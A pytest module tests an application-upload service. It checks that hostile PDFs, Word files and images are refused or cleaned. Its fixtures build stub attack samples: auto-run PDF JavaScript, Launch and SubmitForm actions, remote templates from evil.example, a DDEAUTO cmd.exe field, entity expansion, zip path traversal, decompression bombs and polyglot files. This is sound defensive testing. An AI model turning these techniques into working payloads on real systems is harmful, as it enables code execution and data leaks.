"""Hostile files, sent as an association would send its statutes: refused with a sentence, or made harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import ExitStack
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from capacity.admission.applications.models import Application, ApplicationDocument
from capacity.core import turns
from capacity.core.db import db
from capacity.core.files import store
from capacity.core.word_inspection import WORD_MAIN
from tests.admission.applications.test_papers import send
from tests.factories import admission

pytestmark = pytest.mark.one_database

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD_MAIN}"/></Types>'
FAKE_MACRO = b"\xd0\xcf\x11\xe0 Sub AutoOpen()"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _document: None, **options: Any) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(made, **options)
    return made.getvalue()


def on_opening(action: Dictionary) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return pdf(change)


def annotated(note: Dictionary) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array([note])

    return pdf(change)


def carrying_a_program(document: pikepdf.Pdf) -> None:
    document.attachments["statutes.exe"] = b"MZ"


def with_a_form_of_its_own(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def swelling(document: pikepdf.Pdf) -> None:
    bomb = pikepdf.Stream(document, b"")
    bomb.write(zlib.compress(zlib.compress(b" " * (150 * 2**20), 1), 9), filter=Array([Name.FlateDecode] * 2))
    document.pages[0].Contents = document.make_indirect(bomb)


def with_a_flood(document: pikepdf.Pdf) -> None:
    flood = pikepdf.Stream(document, zlib.compress(b"\0" * 1000))
    flood.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60_000,
        Height=60_000,
        BitsPerComponent=1,
        ColorSpace=Name.DeviceGray,
        Filter=Name.FlateDecode,
    )
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(flood)))


def archive(parts: dict[str, Any], start: bytes = b"") -> bytes:
    made = io.BytesIO()
    made.write(start)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return made.getvalue()


def docx(types: str = TYPES, body: str = "", **parts: Any) -> bytes:
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return archive({"[Content_Types].xml": types, "word/document.xml": document, **parts})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationships><Relationship Type="x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return docx(**{"word/_rels/document.xml.rels": relation})


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'


def png_of(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))
    return start + struct.pack(">I", 0) + b"IDAT" + struct.pack(">I", zlib.crc32(b"IDAT"))


def photo(**options: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(made, "JPEG", **options)
    return made.getvalue()


def told_where() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SECRETPHONE"
    exif.get_ifd(0x8825)[2] = (34.0, 1.0, 2.0)
    return exif


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>' + f"<w:document {W}>&b;</w:document>"
)
ENTITIES_OF_TWO_BYTES = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "ha">]><w:styles/>'
ENTITIES_OF_SEVEN_BITS = (
    b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d [+ADwAIQ-ENTITY a "ha"+AD4AXQA+ADw-d/+AD4-'
)

Content = bytes | Callable[[], bytes]
"""What takes long to make is made by the test that sends it, not by every worker."""

REFUSED: dict[str, tuple[Content, str, str]] = {
    "a script that runs on opening": (
        on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), "a.pdf", "programs"),
    "a program started by a click": (
        annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))),
        "a.pdf", "programs"),
    "a form sent to somebody": (
        annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://x")))),
        "a.pdf", "programs"),
    "a jump into another file": (
        on_opening(Dictionary(S=Name.GoToR, F=String("\\\\server\\share"))), "a.pdf", "programs"),
    "a film": (annotated(Dictionary(Subtype=Name.RichMedia)), "a.pdf", "programs"),
    "a program inside a PDF": (pdf(carrying_a_program), "a.pdf", "attached"),
    "a form with a language of its own": (pdf(with_a_form_of_its_own), "a.pdf", "programs"),
    "a PDF under a password": (
        pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "a.pdf", "password"),
    "a PDF that forbids": (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "a.pdf", "password"),
    "a broken PDF": (b"%PDF-1.7 broken", "a.pdf", "damaged"),
    "a PDF that swells": (lambda: pdf(swelling), "a.pdf", "enormous"),
    "a PDF with a flood of pixels": (pdf(with_a_flood), "a.pdf", "pixels"),
    "a PDF that is an archive too": (archive({"run.exe": b"MZ"}, start=pdf()), "a.pdf", "attached"),
    "a program called PDF": (b"MZ\x90\0", "statuts.pdf", "not accepted"),
    "a page called PDF": (b"<html><script>alert(1)</script>", "statuts.pdf", "not accepted"),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", "logo.svg", "not accepted"),
    "a PDF called program": (pdf(), "statuts.pdf.exe", "name of this file"),
    "macros": (docx(**{"word/vbaProject.bin": FAKE_MACRO}), "a.docx", "macros"),
    "macros said in the types only": (
        docx(TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")), "a.docx", "macros"),
    "a document with macros, by its name": (docx(), "a.docm", "name of this file"),
    "a template from elsewhere": (related("attachedTemplate", "http://evil.example/t.dotm"), "a.docx", "macros"),
    "a template on somebody's server": (related("attachedTemplate", "file://server/share/t.dotm"), "a.docx", "macros"),
    "a picture from elsewhere": (related("image", "http://evil.example/pixel.png"), "a.docx", "macros"),
    "an object inside": (docx(**{"word/embeddings/oleObject1.bin": FAKE_MACRO}), "a.docx", "macros"),
    "a page of another kind inside": (related("aFChunk", "chunk.html", "Internal"), "a.docx", "macros"),
    "a workbook that is none": (docx(**{"word/embeddings/Sheet1.xlsx": b"MZ"}), "a.docx", "macros"),
    "a field that starts a program": (docx(body=field("DDEA", "UTO c:\\\\cmd.exe")), "a.docx", "macros"),
    "a field written by a field": (
        docx(body=f'<w:fldChar w:fldCharType="begin"/>{field("QUOTE 68 68 69")}<w:fldChar w:fldCharType="end"/>'),
        "a.docx", "macros"),
    "words that multiply": (
        archive({"[Content_Types].xml": TYPES, "word/document.xml": ENTITIES}), "a.docx", "macros"),
    "entities in letters of two bytes": (
        docx(**{"word/styles.xml": ENTITIES_OF_TWO_BYTES.encode("utf-16")}), "a.docx", "macros"),
    "entities in letters of seven bits": (docx(**{"word/styles.xml": ENTITIES_OF_SEVEN_BITS}), "a.docx", "macros"),
    "a path that leads out": (docx(**{"../../evil.sh": b"x"}), "a.docx", "macros"),
    "an archive that swells": (
        lambda: docx(**{"word/media/a.bin": b"\0" * (101 * 2**20)}), "a.docx", "enormous"),
    "an archive called document": (archive({"run.exe": b"MZ"}), "a.docx", "not a Word document"),
    "a flood of pixels": (png_of(60_000, 60_000), "a.png", "pixels"),
    "a picture cut short": (photo()[:300], "a.jpg", "damaged"),
    "nothing": (b"", "a.pdf", "empty"),
    "too much": (b"%PDF-1.4" + b" " * (10 * 2**20), "a.pdf", "10 MB"),
}  # fmt: skip

NEUTRALISED: dict[str, tuple[bytes, str]] = {
    "the place where a photo was taken": (photo(exif=told_where()), "IMG.jpg"),
    "words beside a picture": (photo(comment=b"SECRETCOMMENT <?php system(1) ?>"), "IMG.jpg"),
    "an archive behind a picture": (archive({"SECRET.exe": b"MZ"}, start=photo()), "IMG.jpg"),
    "a page behind a picture": (photo() + b"<script>SECRET</script>", "IMG.jpg"),
}


@pytest.fixture
def drafting(sign_in: Any, clock: Any) -> tuple[Any, Application]:
    made = admission.draft()
    member = admission.member_of(made.association)
    member.language = "en"
    clock.stop_at(admission.DURING)
    return sign_in(member), made


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_refused_with_a_sentence(drafting: Any, what: str) -> None:
    client, made = drafting
    content, name, why = REFUSED[what]
    answer = send(client, made, content() if callable(content) else content, name)
    assert answer.status_code == 422
    assert why in answer.get_data(as_text=True)
    assert db.session.query(ApplicationDocument).count() == 0


@pytest.mark.parametrize("what", NEUTRALISED)
def test_a_hostile_picture_is_made_harmless(drafting: tuple[Any, Application], what: str) -> None:
    client, made = drafting
    content, name = NEUTRALISED[what]
    assert b"SECRET" in content
    send(client, made, content, name)
    kept = store().read(db.session.query(ApplicationDocument).one().file)
    assert b"SECRET" not in kept
    assert b"PK\x05\x06" not in kept


def test_there_are_more_than_twenty_five() -> None:
    assert len(REFUSED) + len(NEUTRALISED) >= 25


def test_more_pictures_than_are_opened_at_once_wait_and_are_told_to_come_back(
    drafting: tuple[Any, Application], monkeypatch: pytest.MonkeyPatch
) -> None:
    client, made = drafting
    client.allow_failures = True
    monkeypatch.setattr(turns, "PATIENCE_SECONDS", 0)
    with ExitStack() as others:
        for _one in range(turns.MOST_AT_ONCE):
            others.enter_context(turns.a_turn())
        answer = send(client, made, photo(), "IMG.jpg")
        assert (answer.status_code, answer.headers["Retry-After"]) == (503, "15")
        assert "yours was not taken in yet" in answer.get_data(as_text=True)
    assert send(client, made, photo(), "IMG.jpg").status_code == 302
